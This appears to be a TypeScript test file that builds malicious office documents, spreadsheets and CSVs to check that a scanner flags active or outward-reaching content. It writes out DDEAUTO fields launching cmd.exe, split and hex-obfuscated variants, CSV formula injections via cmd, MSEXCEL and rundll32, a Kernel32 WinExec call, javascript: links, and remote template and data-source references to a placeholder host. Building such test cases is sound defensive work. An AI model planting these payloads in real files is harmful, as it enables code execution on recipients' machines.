// What acts or reaches outside, in every carrier of a letter and a workbook. Expected before any was read.
import { strToU8 } from 'fflate'
import {
  ACTS,
  book,
  fixture,
  flatText,
  letter,
  OFFICE,
  REACHES,
  sheet,
  text,
} from './bad-carriers.ts'
import { type Bad, HELD } from './bad-files.ts'
import { related, withParts } from './bad-office.ts'

const rich = (more: string): Uint8Array => strToU8(`{\\rtf1\\ansi ${HELD}\\par ${more}}`)
const field = (code: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code
    .split('|')
    .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const withRelation = (kind: string, target: string, from = 'word/_rels/document.xml.rels') =>
  withParts(letter(), { [from]: related(kind, target) })

export const actingLetters = (): Bad => ({
  'dde-in-pieces.docx': [() => letter(field('DD|EAU|TO c:\\\\windows\\\\cmd.exe "/k calc"')), ACTS],
  'dde-simple.docx': [
    () => letter('<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot;"/></w:p>'),
    ACTS,
  ],
  'dde-quoted-by-number.docx': [() => letter(field('QUOTE 68 68 69')), /held/],
  'macro-button.docx': [() => letter(field('MACROBUTTON AutoRun Click here')), ACTS],
  'script-link.docx': [() => withRelation('hyperlink', 'javascript:alert(1)'), ACTS],
  'help-tool-link.docx': [
    () => withRelation('oleObject', 'mhtml:https://a.example/a.html!x-usc:https://a.example'),
    REACHES,
  ],
  'merges-data.docx': [
    () =>
      withRelation(
        'mailMergeSource',
        'file:///\\\\a.example\\a.mdb',
        'word/_rels/settings.xml.rels',
      ),
    REACHES,
  ],
  'frames.docx': [
    () => withRelation('frame', 'http://a.example/a.html', 'word/_rels/webSettings.xml.rels'),
    REACHES,
  ],
  'picture-by-drawing.docx': [
    () =>
      letter(
        '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="http://a.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      ),
    REACHES,
  ],
  'program-within.docx': [
    () => withParts(letter(), { 'word/embeddings/oleObject1.bin': new Uint8Array(600) }),
    /part-not-read|active-content/,
  ],
  'another-format-mht.docx': [
    () => withParts(letter(), { 'word/afchunk.mht': 'MIME-Version: 1.0\r\n\r\nWe hold 9' }),
    /held|part-not-read/,
  ],
  'letter.docx-with-vba-named-otherwise.docx': [
    () =>
      withParts(letter(), {
        'word/harmless.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        'word/_rels/document.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="harmless.bin"/></Relationships>',
      }),
    ACTS,
  ],
  'data-web-extension.docx': [
    () =>
      withParts(letter(), {
        'word/webextensions/webextension1.xml': '<we:webextension id="x"/>',
        'word/webextensions/taskpanes.xml': '<a/>',
      }),
    REACHES,
  ],
  'macro-called.odt': [
    () => text('<text:p><text:execute-macro text:name="a">Click</text:execute-macro></text:p>'),
    ACTS,
  ],
  'python-macro.odt': [() => withParts(text(), { 'Scripts/python/a.py': 'import os' }), ACTS],
  'event-in-styles.odt': [
    () =>
      withParts(text(), {
        'styles.xml': `<office:document-styles ${OFFICE}><office:master-styles><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></office:master-styles></office:document-styles>`,
      }),
    ACTS,
  ],
  'picture-in-styles.odt': [
    () =>
      withParts(text(), {
        'styles.xml': `<office:document-styles ${OFFICE}><office:master-styles><draw:image xlink:href="http://a.example/a.png"/></office:master-styles></office:document-styles>`,
      }),
    REACHES,
  ],
  'reloads.odt': [
    () =>
      withParts(text(), {
        'meta.xml': `<office:document-meta ${OFFICE}><meta:auto-reload xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xlink:href="http://a.example/" meta:delay="PT1S"/></office:document-meta>`,
      }),
    REACHES,
  ],
  'template-elsewhere.odt': [
    () =>
      withParts(text(), {
        'meta.xml': `<office:document-meta ${OFFICE}><meta:template xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xlink:href="http://a.example/a.ott"/></office:document-meta>`,
      }),
    REACHES,
  ],
  'applet.odt': [
    () => text('<text:p><draw:frame><draw:applet draw:code="a.class"/></draw:frame></text:p>'),
    ACTS,
  ],
  'player.odt': [
    () =>
      text(
        '<text:p><draw:frame><draw:plugin xlink:href="http://a.example/a.swf"/></draw:frame></text:p>',
      ),
    REACHES,
  ],
  'dde-field.odt': [
    () =>
      text(
        '<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="soffice" office:dde-topic="a.ods" office:dde-item="A1"/></text:dde-connection-decls>',
      ),
    REACHES,
  ],
  'script-link.odt': [
    () => text('<text:p><text:a xlink:href="javascript:alert(1)">x</text:a></text:p>'),
    ACTS,
  ],
  'script-within.fodt': [
    () =>
      strToU8(
        flatText.replace(
          '<office:body>',
          '<office:scripts><office:script script:language="ooo:Basic">Sub Main</office:script></office:scripts><office:body>',
        ),
      ),
    ACTS,
  ],
  'macro-button.rtf': [
    () => rich('{\\field{\\*\\fldinst MACROBUTTON AutoRun Click}{\\fldrslt }}'),
    ACTS,
  ],
  'dde-in-pieces.rtf': [
    () =>
      rich('{\\field{\\*\\fldinst {\\rtlch DDE}{\\b0 AUTO} c:\\\\\\\\cmd.exe "/k"}{\\fldrslt }}'),
    ACTS,
  ],
  'template-spaced.rtf': [() => rich('{\\*  \\template http://a.example/a.dotm}'), REACHES],
  'template-by-letters.rtf': [
    () => rich("{\\*\\template \\'68\\'74\\'74\\'70://a.example/a}"),
    REACHES,
  ],
  'object-within.rtf': [
    () => rich('{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}'),
    /active-content|part-not-read/,
  ],
  'object-parted.rtf': [
    () => rich('{\\object\\objemb{\\*\\objdata{\\*\\x 01}05\\bin0 00}}'),
    /active-content|part-not-read/,
  ],
  'picture-on-a-share.rtf': [
    () =>
      rich('{\\field{\\*\\fldinst INCLUDEPICTURE "file:////a.example/a.png" \\\\d}{\\fldrslt }}'),
    REACHES,
  ],
  'merges-data.rtf': [
    () => rich('{\\*\\mailmerge{\\mmdatasource http://a.example/a.mdb}}'),
    REACHES,
  ],
  'frames.rtf': [() => rich('{\\*\\frmset{\\frame{\\*\\fname http://a.example/a.html}}}'), /^read/],
})

export const actingSheets = (): Bad => ({
  'starts-program.xlsx': [
    () => sheet('<row r="2"><c r="A2"><f>cmd|\'/C calc\'!A0</f><v>7</v></c></row>'),
    ACTS,
  ],
  'calls-library.xlsx': [
    () =>
      sheet(
        '<row r="2"><c r="A2"><f>CALL("Kernel32","WinExec","JCJ","calc",0)</f><v>7</v></c></row>',
      ),
    ACTS,
  ],
  'link-of-formula.xlsx': [
    () =>
      sheet(
        '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://a.example/?"&amp;A1,"7")</f><v>7</v></c></row>',
      ),
    /^read/,
  ],
  'script-link.xlsx': [
    () =>
      withParts(sheet('', '<hyperlinks><hyperlink ref="A1" r:id="r1"/></hyperlinks>'), {
        'xl/worksheets/_rels/sheet1.xml.rels': related('hyperlink', 'javascript:alert(1)'),
      }),
    ACTS,
  ],
  'object-elsewhere.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/worksheets/_rels/sheet1.xml.rels': related('oleObject', 'file:///a.example/a.xlsx'),
      }),
    REACHES,
  ],
  'picture-elsewhere.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/drawings/_rels/drawing1.xml.rels': related('image', 'http://a.example/a.png'),
      }),
    REACHES,
  ],
  'web-query.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/connections.xml':
          '<connections><connection id="1" type="4"><webPr url="http://a.example"/></connection></connections>',
      }),
    REACHES,
  ],
  'power-query.xlsx': [
    () =>
      withParts(sheet(), {
        'customXml/item1.xml':
          '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
      }),
    REACHES,
  ],
  'controls.xlsx': [
    () => withParts(sheet(), { 'xl/ctrlProps/ctrlProp1.xml': '<formControlPr/>' }),
    /^read/,
  ],
  'macro-of-control.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/drawings/drawing1.xml': '<xdr:sp macro="[0]!Run"><a/></xdr:sp>',
      }),
    ACTS,
  ],
  'macro-sheet-by-type.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/worksheets/sheet9.xml': '<xm:macrosheet/>',
        'xl/_rels/workbook.xml.rels': (xml) =>
          xml.replace(
            '</Relationships>',
            '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="worksheets/sheet9.xml"/></Relationships>',
          ),
      }),
    ACTS,
  ],
  'pivot-of-elsewhere.xlsx': [
    () =>
      withParts(sheet(), {
        'xl/pivotCache/pivotCacheDefinition1.xml': '<pivotCacheDefinition r:id="r1"/>',
        'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels': related(
          'externalLinkPath',
          'file:///a.example/a.xlsx',
        ),
      }),
    REACHES,
  ],
  'formula-elsewhere.xlsx': [
    () => sheet(`<row r="2"><c r="A2"><f>'http://a.example/[a.xlsx]S'!A1</f><v>7</v></c></row>`),
    REACHES,
  ],
  'asks-the-web.ods': [
    () =>
      book(
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://a.example&quot;)" office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>',
      ),
    REACHES,
  ],
  'formula-elsewhere.ods': [
    () =>
      book(
        `<table:table-cell table:formula="of:=['file:///a.example/a.ods'#$S.A1]" office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>`,
      ),
    REACHES,
  ],
  'range-elsewhere.ods': [
    () =>
      book(
        '<table:table-cell><table:cell-range-source table:name="a" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://a.example/a.ods"/></table:table-cell>',
      ),
    REACHES,
  ],
  'dde-links.ods': [
    () =>
      book(
        '',
        '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></table:dde-link></table:dde-links>',
      ),
    REACHES,
  ],
  'database.ods': [
    () =>
      book(
        '',
        '<table:database-ranges><table:database-range table:name="a"><table:database-source-sql table:database-name="a" table:sql-statement="select"/></table:database-range></table:database-ranges>',
      ),
    REACHES,
  ],
  'macros.xlsb': [
    () =>
      withParts(fixture('xlsb-binary/reply.xlsb'), { 'xl/vbaProject.bin': new Uint8Array(600) }),
    ACTS,
  ],
  'link.xlsb': [
    () =>
      withParts(fixture('xlsb-binary/reply.xlsb'), {
        'xl/externalLinks/externalLink1.bin': new Uint8Array(60),
      }),
    REACHES,
  ],
  'calls.csv': [() => strToU8('year,officers\n2013,"=cmd|\'/C calc\'!A0"\n2014,9\n'), ACTS],
  'calls-turned.csv': [
    () => strToU8("year;officers\n2013;=MSEXCEL|'\\..\\cmd.exe /c calc'!''\n"),
    ACTS,
  ],
  'rundll.tsv': [
    () => strToU8("year\tofficers\n2013\t=rundll32|'URL.dll,OpenURL calc.exe'!A\n"),
    ACTS,
  ],
  'calls.utf16.csv': [
    () =>
      Buffer.concat([
        Buffer.from('fffe', 'hex'),
        Buffer.from("year,officers\n2013,=cmd|' /C calc'!A0\n", 'utf16le'),
      ]),
    ACTS,
  ],
  'calls-in-a-text.txt': [
    () => strToU8("year,officers\n2013,=cmd|' /C calc'!A0\n2014,9\n2015,8\n"),
    ACTS,
  ],
})
